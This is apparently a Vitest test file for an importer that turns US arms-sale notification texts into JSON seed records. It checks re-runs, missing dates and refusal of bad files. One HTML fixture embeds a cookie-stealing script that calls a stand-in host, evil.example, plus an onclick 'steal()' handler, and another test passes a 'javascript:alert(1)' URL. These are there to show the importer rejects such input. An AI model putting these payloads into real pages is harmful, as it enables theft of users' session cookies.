import { truncateSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { cleanTemp, fixture, minimalSeeds, readJson, root, runImport, sampleSeeds, seedFileCounts, snapshot, tempDir, tempSeeds } from "../support/import";

afterAll(cleanTemp);

describe("npm run import (the real command)", () => {
  it("imports a release, reports what it found, checks the seeds; a second run changes nothing", () => {
    const seeds = tempSeeds(["2024-11-14-greece-f-16"]);
    const result = runImport([fixture("2024-11-14-greece-f-16-engine-follow-on-support.txt"), "--seeds", seeds]);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain("the release: written seeds/notifications/2024-11-14-greece-f-16.json");
    expect(result.stdout).toContain("found     transmittal 24-114");
    expect(result.stdout).toMatch(/1 file, 1 transmittal: 1 written, 0 updated, 0 unchanged, 0 skipped\./);
    // The seed check counts every file of the record it checked: the real record, grown by one.
    const counts = seedFileCounts(seeds);
    expect(result.stdout).toContain(`Seed check OK (${counts.notifications} notifications, ${counts.reports} reports)`);
    expect(counts.notifications).toBe(seedFileCounts(path.join(root, "seeds")).notifications);
    const before = snapshot(seeds);
    const again = runImport([fixture("2024-11-14-greece-f-16-engine-follow-on-support.txt"), "--seeds", seeds]);
    expect(again.code).toBe(0);
    expect(again.stdout).toContain("unchanged: already in");
    expect(snapshot(seeds)).toEqual(before);
  });

  it("a text without its date is skipped, exit 1; --date supplies it; --dry-run writes nothing", () => {
    const seeds = sampleSeeds([], ["2011-05-17-pakistan-f-16"]);
    const before = snapshot(seeds);
    const pakistan = fixture("2011-05-17-pakistan-spare-parts-no-dateline.txt");
    const skipped = runImport([pakistan, "--seeds", seeds]);
    expect(skipped.code).toBe(1);
    expect(skipped.stdout).toMatch(/2011-05-17-pakistan-spare-parts-no-dateline\.txt: missing announcement date/);
    const dry = runImport([pakistan, "--seeds", seeds, "--date", "2011-05-17", "--system", "F-16", "--dry-run"]);
    expect(dry.code).toBe(0);
    expect(dry.stdout).toContain("(dry run: nothing was written)");
    expect(snapshot(seeds)).toEqual(before);
    const given = runImport([pakistan, "--seeds", seeds, "--date", "2011-05-17", "--approximate-date", "--system", "F-16", "--system", "C-130"]);
    expect(given.code).toBe(0);
    expect(readJson(path.join(seeds, "notifications", "2011-05-17-pakistan-f-16.json"))).toMatchObject({ announcedOn: "2011-05-17", dateApproximate: true, estimatedValueUsd: 62_000_000, systems: ["f-16", "c-130"] });
  });

  it("a folder imports every text in it; the copies of a transmittal are one sale; skipped ones make the exit 1", () => {
    // Into the small fixed record (two sales): which texts are written and which skipped
    // (no date, a report on a sale it lacks) does not move as research fills seeds/.
    const seeds = minimalSeeds();
    const result = runImport([path.dirname(fixture("x")), "--seeds", seeds]);
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/2025-07-17-cr-gpo-lebanon-25-38\.txt: congressional record, 1 transmittal/);
    expect(result.stdout).toContain("12 files, 12 transmittals: 6 written, 0 updated, 0 unchanged, 6 skipped.");
    expect(result.stdout).toMatch(/transmittal 25-38 is not in the record and the text gives no date for it/);
    expect(result.stdout).toMatch(/report 26-1C is about sale 23-26, which is not in the record/);
    expect(seedFileCounts(seeds)).toEqual({ notifications: 2 + 6, reports: 0 });
    expect(result.stdout).toContain("Seed check OK (8 notifications, 0 reports)");
  });

  it("refuses a bad --date, --value or --url before touching anything", () => {
    const seeds = sampleSeeds([]);
    const before = snapshot(seeds);
    const pakistan = fixture("2011-05-17-pakistan-spare-parts-no-dateline.txt");
    expect(runImport([pakistan, "--seeds", seeds, "--date", "2011-02-30"]).stderr).toContain('--date "2011-02-30" is not a real date written YYYY-MM-DD');
    expect(runImport([pakistan, "--seeds", seeds, "--value", "lots"]).stderr).toContain('--value "lots" is not a whole-dollar amount');
    const url = runImport([pakistan, "--seeds", seeds, "--url", "javascript:alert(1)"]);
    expect(url.code).toBe(2);
    expect(url.stderr).toContain("must be an http(s) URL");
    expect(snapshot(seeds)).toEqual(before);
  });
});

describe("bad files: a message naming the file, exit 1, nothing written", () => {
  // Into a sample of the record: a refused file is refused before the record is read.
  function refused(name: string, content: Buffer | string | null, message: RegExp, args: string[] = []) {
    const seeds = sampleSeeds([]);
    const before = snapshot(seeds);
    const file = path.join(tempDir(), name);
    if (content === null) {
      writeFileSync(file, "");
      truncateSync(file, 50 * 1024 * 1024);
    } else writeFileSync(file, content);
    const result = runImport([file, "--seeds", seeds, ...args]);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain(`${file}: REFUSED: nothing written`);
    expect(result.stdout).toMatch(message);
    expect(snapshot(seeds)).toEqual(before);
    return result;
  }

  it("a binary file", () => {
    refused("notice.txt", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00]), /notice\.txt: is a binary file/);
  });

  it("a 50 MB file", () => {
    refused("huge.txt", null, /huge\.txt: is 50\.0 MB; the importer reads files up to 8 MB/);
  });

  it("HTML with scripts (and with --drop-scripts the same page is read, scripts unread)", () => {
    const page = `<!doctype html><html><head><link rel="canonical" href="https://www.dsca.mil/press-media/major-arms-sales/greece-f-16-engine-follow-support"><script>fetch("https://evil.example/"+document.cookie)</script></head><body><h1>Greece – F-16 Engine Follow-On Support</h1><p>Transmittal No. 24-114</p><p>WASHINGTON, November 14, 2024 - The State Department has made a determination approving a possible Foreign Military Sale to the Government of Greece of F-16 Engine Follow-On Support and related elements of logistics and program support for an estimated cost of $160 million.</p><p onclick="steal()">The principal contractor will be General Electric Aerospace, located in Evendale, OH.</p></body></html>`;
    refused("greece.html", page, /greece\.html: is HTML with scripts: 1 script element \(<script>\) and 1 element with inline script/);
    const seeds = sampleSeeds([], ["2024-11-14-greece-f-16"]);
    const file = path.join(tempDir(), "greece.html");
    writeFileSync(file, page);
    const read = runImport([file, "--seeds", seeds, "--drop-scripts"]);
    expect(read.code).toBe(0);
    const record = readJson<{ sources: { url: string }[]; notes: string | null }>(path.join(seeds, "notifications", "2024-11-14-greece-f-16.json"));
    expect(record.sources[0]!.url).toBe("https://www.dsca.mil/press-media/major-arms-sales/greece-f-16-engine-follow-support");
    expect(JSON.stringify(record)).not.toMatch(/evil|cookie|steal/);
  });

  it("a recipient no library knows", () => {
    const text = `SOURCE: https://www.dsca.mil/example\n---\nWASHINGTON, March 3, 2026 - The State Department has made a determination approving a possible Foreign Military Sale to the Government of Freedonia of F-16 spare parts for an estimated cost of $50 million.`;
    refused("freedonia.txt", text, /freedonia\.txt: recipient "Freedonia" is not a country i18n-iso-countries knows/);
  });

  it("a report naming a sale the record does not hold (skipped, by its number)", () => {
    const seeds = minimalSeeds();
    const before = snapshot(seeds);
    const result = runImport([fixture("2024-09-10-cr-gpo-24-0j-cost-increase.txt"), "--seeds", seeds]);
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/report 24-0J is about sale 20-76, which is not in the record/);
    expect(snapshot(seeds)).toEqual(before);
  });
});
